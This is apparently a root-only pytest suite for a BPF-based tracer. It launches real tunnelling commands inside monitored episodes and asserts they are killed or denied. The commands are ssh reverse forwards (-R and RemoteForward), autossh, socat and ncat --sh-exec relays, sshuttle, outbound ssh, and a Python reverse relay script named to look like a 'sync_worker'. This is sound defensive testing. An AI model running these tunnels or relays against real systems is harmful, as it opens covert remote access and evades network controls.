"""The default tunnel pack against real tools in real episodes (root): an
"external" host in a netns runs a real sshd (tests/nethost.py); each tunnel
is started inside a test episode under a live tracer with policies/, and the
test asserts the alert (rule, episode, action, enforced) and that the tunnel
did not happen (the forwarded port never opens, sshd saw nothing). The same
commands outside every episode are untouched (default scope)."""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from at_testlib import have, run_in_episode
from nethost import NetHost, protocol_detection_landed

pytestmark = pytest.mark.root
PY = sys.executable


@pytest.fixture(scope="module")
def ext(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("needs root: loads BPF programs and creates cgroups/netns")
    with NetHost(tmp_path_factory.mktemp("ext")) as h:
        h.start_sshd(ports=(22, 2022))
        h.start_pool(ports=(8443,))  # the attacker's end of a reverse relay: records what arrives
        yield h


@pytest.fixture(scope="module")
def tracer(ext, packs_tracer):  # the outside host first, then the tracer
    return packs_tracer


def alert(t, ep, rule, timeout=5.0):
    return t.expect_alert(ep, rule, timeout)


def assert_stopped(a, action):
    assert a["action"] == action and a["enforced"] is True, a


def free_port() -> int:
    import socket

    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def test_ssh_reverse_forward(tracer, ext, episode_id):
    before = ext.sshd_connections()
    res = run_in_episode(episode_id, ext.ssh_argv("-N", "-R", "2222:localhost:22"), timeout=20)
    assert res.signal == signal.SIGKILL
    a = alert(tracer, episode_id, "ssh-port-forward")
    assert_stopped(a, "kill")
    assert a["matched"]["argv_flag"] == "-R"
    assert ext.never_listening(2222, 1.0), "the remote forward opened"
    assert ext.sshd_connections() == before, "ssh reached sshd"


def test_ssh_remote_forward_from_config_file(tracer, ext, episode_id, tmp_path):
    cfg = tmp_path / "cfg"
    cfg.write_text(f"Host ext\n  HostName {ext.addr}\n  User root\n  RemoteForward 2223 localhost:22\n")
    before = ext.sshd_connections()
    argv = ["ssh", *ext.ssh_opts(), "-F", "cfg", "-N", "ext"]  # no forwarding flag on argv
    res = run_in_episode(episode_id, argv, cwd=str(tmp_path), timeout=20)
    assert res.signal == signal.SIGKILL
    a = alert(tracer, episode_id, "ssh-config-forward")
    assert_stopped(a, "kill")
    assert a["matched"]["ssh_config"] == "remoteforward 2223 localhost:22"
    assert ext.never_listening(2223, 1.0)
    assert ext.sshd_connections() == before


def test_autossh(tracer, ext, episode_id):
    before = ext.sshd_connections()
    argv = ["autossh", "-M", "0", "-N", "-R", "2224:localhost:22", *ext.ssh_opts(), f"root@{ext.addr}"]
    # killed in the kernel at exec: keep the cgroup until the test ends (a
    # cgroup made and removed between two tracer scans is never attributed)
    res = run_in_episode(episode_id, argv, env={**os.environ, "AUTOSSH_GATETIME": "0"}, timeout=20,
                         keep_stragglers=True)
    assert res.signal == signal.SIGKILL
    a = alert(tracer, episode_id, "tunnel-tool")
    assert_stopped(a, "kill")
    assert ext.never_listening(2224, 1.0)
    assert ext.sshd_connections() == before


def test_socat_relay(tracer, ext, episode_id):
    port = free_port()
    before = ext.sshd_connections()
    argv = ["socat", f"TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr,fork", f"TCP:{ext.addr}:22"]
    res = run_in_episode(episode_id, argv, timeout=20)
    assert res.signal == signal.SIGKILL
    assert_stopped(alert(tracer, episode_id, "socat-relay"), "kill")
    assert ext.never_listening(port, 1.0, ns=False), "the relay listened"
    assert ext.sshd_connections() == before


def test_ncat_listener_relay(tracer, ext, episode_id):
    port = free_port()
    argv = ["ncat", "-l", "127.0.0.1", str(port), "--sh-exec", f"ncat {ext.addr} 22"]
    res = run_in_episode(episode_id, argv, timeout=20)
    assert res.signal == signal.SIGKILL
    assert_stopped(alert(tracer, episode_id, "socket-relay"), "kill")
    assert ext.never_listening(port, 1.0, ns=False)


@pytest.mark.skipif(not have("sshuttle"), reason="sshuttle not installed (scripts/install.sh installs it)")
def test_sshuttle(tracer, ext, episode_id):
    before = ext.sshd_connections()
    ssh_cmd = " ".join(["ssh", *ext.ssh_opts()])
    argv = ["sshuttle", "-r", f"root@{ext.addr}", "10.250.0.0/24", "-e", ssh_cmd]
    res = run_in_episode(episode_id, argv, timeout=30, keep_stragglers=True)  # killed in the kernel: see autossh
    assert res.signal == signal.SIGKILL
    assert_stopped(alert(tracer, episode_id, "tunnel-tool"), "kill")
    time.sleep(0.5)
    assert ext.sshd_connections() == before


@pytest.mark.parametrize("v6", [False, True], ids=["v4", "v6"])
def test_outbound_ssh_port_22_refused_in_kernel(tracer, ext, episode_id, tmp_path, v6):
    marker = tmp_path / "ran"
    addr = ext.addr6 if v6 else ext.addr
    res = run_in_episode(episode_id, ext.ssh_argv(addr=addr) + [f"touch {marker}"], timeout=20)
    assert res.exit_code != 0 or res.signal
    a = alert(tracer, episode_id, "ssh-port-egress")
    assert_stopped(a, "deny")
    assert a["addr"] == addr and a["port"] == 22
    assert not marker.exists()


@pytest.mark.parametrize("v6", [False, True], ids=["v4", "v6"])
def test_outbound_ssh_other_port_killed(tracer, ext, episode_id, tmp_path, v6):
    marker = tmp_path / "ran"
    addr = ext.addr6 if v6 else ext.addr
    res = run_in_episode(episode_id, ext.ssh_argv(addr=addr, port=2022) + [f"sleep 2; touch {marker}"],
                         timeout=20)
    assert res.signal == signal.SIGKILL
    a = alert(tracer, episode_id, "outbound-ssh")
    assert_stopped(a, "kill")
    assert a["addr"] == addr and a["port"] == 2022
    time.sleep(2.5)
    assert not marker.exists(), "the remote command ran"


RELAY = r"""
import socket, sys, threading
out = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
local = socket.create_connection(("127.0.0.1", int(sys.argv[3])), timeout=5)
def pump(a, b):
    while True:
        d = a.recv(4096)
        if not d:
            break
        b.sendall(d)
threading.Thread(target=pump, args=(out, local), daemon=True).start()
pump(local, out)
"""


def test_python_reverse_relay_to_local_sshd_refused(tracer, ext, episode_id, tmp_path):
    """No ssh binary: a script connects out, then to the node's sshd (port
    22), and would pump bytes between them. The inner leg is refused in the
    kernel; the outside end never sees an SSH banner."""
    script = tmp_path / "sync_worker.py"
    script.write_text(RELAY)
    res = run_in_episode(episode_id, [PY, str(script), ext.addr, "8443", "22"], timeout=20)
    assert res.exit_code not in (0, None)
    a = alert(tracer, episode_id, "episode-to-local-sshd")
    assert_stopped(a, "deny")
    assert a["addr"] == "127.0.0.1" and a["port"] == 22
    assert not [e for e in ext.pool_events() if e.get("port") == 8443 and str(e.get("head", "")).startswith("SSH-")]


@pytest.mark.skipif(not protocol_detection_landed(),
                    reason="needs first-bytes protocol records (issue 4 part A) in the tracer; not landed yet")
def test_python_reverse_relay_caught_by_ssh_banner(tracer, ext, episode_id, tmp_path):
    """The same relay to an sshd on a port no list names: only the SSH
    identification string on the wire gives it away."""
    local = NetHost(tmp_path / "local")  # only for its port checks: the sshd runs on the node's loopback
    port = free_port()
    d = tmp_path / "local"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "hk")], check=True)
    (d / "c").write_text(f"Port {port}\nListenAddress 127.0.0.1\nHostKey {d / 'hk'}\nPidFile {d / 'pid'}\n"
                         "UsePAM no\nPasswordAuthentication no\n")
    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
    sshd = subprocess.Popen(["/usr/sbin/sshd", "-D", "-e", "-f", str(d / "c")], stderr=subprocess.DEVNULL)
    try:
        local.wait_listening(port, timeout=10, ns=False)
        script = tmp_path / "sync_worker.py"
        script.write_text(RELAY)
        run_in_episode(episode_id, [PY, str(script), ext.addr, "8443", str(port)], timeout=20)
        a = tracer.wait(type="alert", episode=episode_id, protocol="ssh", timeout=5)
        assert a, [x["rule"] for x in tracer.find(type="alert", episode=episode_id)]
        assert a[0]["action"] in ("kill", "kill-episode") and a[0]["enforced"] is True
    finally:
        sshd.kill()
        sshd.wait()


# ------------------------------------------------ outside every episode
def _outside_forward(argv, port, ext, ns=True, **kw):
    # its own process group: autossh's ssh child dies with it (a kill of
    # autossh alone left the ssh forward running after the test)
    p = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, **kw)
    try:
        return ext.wait_listening(port, timeout=10, ns=ns)
    except TimeoutError:
        return False
    finally:
        try:
            os.killpg(p.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        p.wait()


def test_outside_episodes_untouched(tracer, ext, tmp_path):
    """Default scope: the same tunnels from a process in no episode work
    (they only reach the test's netns host), and no alert is raised."""
    n_alerts = len(tracer.find(type="alert", episode=None))
    assert _outside_forward(ext.ssh_argv("-N", "-R", "2232:localhost:22"), 2232, ext)
    cfg = tmp_path / "cfg"
    cfg.write_text(f"Host ext\n  HostName {ext.addr}\n  User root\n  RemoteForward 2233 localhost:22\n")
    assert _outside_forward(["ssh", *ext.ssh_opts(), "-F", str(cfg), "-N", "ext"], 2233, ext)
    assert _outside_forward(["autossh", "-M", "0", "-N", "-R", "2234:localhost:22", *ext.ssh_opts(),
                             f"root@{ext.addr}"], 2234, ext, env={**os.environ, "AUTOSSH_GATETIME": "0"})
    port = free_port()
    assert _outside_forward(["socat", f"TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr", f"TCP:{ext.addr}:22"],
                            port, ext, ns=False)
    r = subprocess.run(ext.ssh_argv(addr=ext.addr6) + ["echo ok"], capture_output=True, text=True, timeout=20)
    assert r.stdout.strip() == "ok"
    assert len(tracer.find(type="alert", episode=None)) == n_alerts


def test_selftest_proves_every_path_with_the_default_packs(tracer):
    """The default packs gate interpreters: the self-test's canaries must
    still prove connect deny, exec kill and exec gate (a gated canary once
    made connect_deny time out and be reported failed)."""
    st = tracer.ready["selftest"]
    assert {k: v for k, v in st.items() if v != "ok"} == {}, st
